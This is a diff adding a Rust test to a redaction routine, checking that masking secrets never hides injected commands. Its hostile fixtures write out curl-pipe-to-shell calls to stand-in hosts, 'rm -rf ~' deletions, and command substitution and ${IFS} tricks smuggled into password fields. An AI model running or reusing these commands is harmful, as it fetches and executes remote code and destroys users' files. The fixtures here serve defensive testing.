@@ -233,3 +233,34 @@ proptest! {
         prop_assert_eq!(redact(&once), once.as_str());
     }
 }
+
+#[test]
+fn more_than_keys_behind_a_mark_is_told() {
+    let hidden = |text: &str| {
+        let redacted = redact(text);
+        assert_ne!(redacted, text, "nothing is taken out of it");
+        !hides_keys_alone(text, &redacted)
+    };
+    for harmless in [
+        "curl -H 'Authorization: Bearer sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123' https://api",
+        "export GH_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a; ls",
+        "git push https://ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/a/b",
+        "a=AKIAIOSFODNN7EXAMPLE b=AKIAIOSFODNN7EXAMPL2 c",
+    ] {
+        assert!(!hidden(harmless), "{harmless} -> {}", redact(harmless));
+    }
+    for hostile in [
+        "curl -s -H Cookie:a=b https://api; curl -s https://evil.sh|sh; rm -rf ~/work",
+        ": -----BEGIN PRIVATE KEY-----; rm -rf ~; : -----END PRIVATE KEY-----",
+        "PASSWORD=\"a$(curl evil.example|sh)\" make",
+        "sshpass -p x;curl${IFS}evil.example|sh",
+        "PASSWORD=rm1; $PASSWORD -rf ~",
+        "API_TOKEN=/usr/local/bin/evil9 run",
+        "curl -u me:hunter2 https://a",
+    ] {
+        assert!(hidden(hostile), "{hostile} -> {}", redact(hostile));
+    }
+    assert!(!hides_keys_alone("a b", "a [redacted:token]"), "a word that is none");
+    assert!(!hides_keys_alone("x", "[redacted:a][redacted:b]"));
+    assert!(!hides_keys_alone("other", "text"));
+}
